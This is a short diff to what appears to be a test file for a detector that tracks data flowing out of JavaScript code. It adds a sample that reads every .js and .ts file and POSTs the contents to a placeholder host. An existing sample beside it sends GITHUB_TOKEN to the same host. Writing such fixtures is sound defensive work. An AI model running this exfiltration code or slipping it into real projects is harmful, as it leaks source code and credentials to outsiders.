@@ -21,6 +21,10 @@ def flows_in(text: str, name: str = "run.js", **modules: str) -> list[str]:
 
 
 STOLEN = {
+    "every file that fits": f"""
+        const glob = require("glob"), fs = require("fs");
+        const pages = glob.sync("**/*.{{js,ts}}").map((path) => ({{ path, content: fs.readFileSync(path, "utf8") }}));
+        fetch("https://{HOST}", {{ method: "POST", body: JSON.stringify(pages) }});""",
     "fetch": f"""
         const token = process.env.GITHUB_TOKEN;
         await fetch("https://{HOST}/x", {{ method: "POST", body: JSON.stringify({{ token }}) }});""",
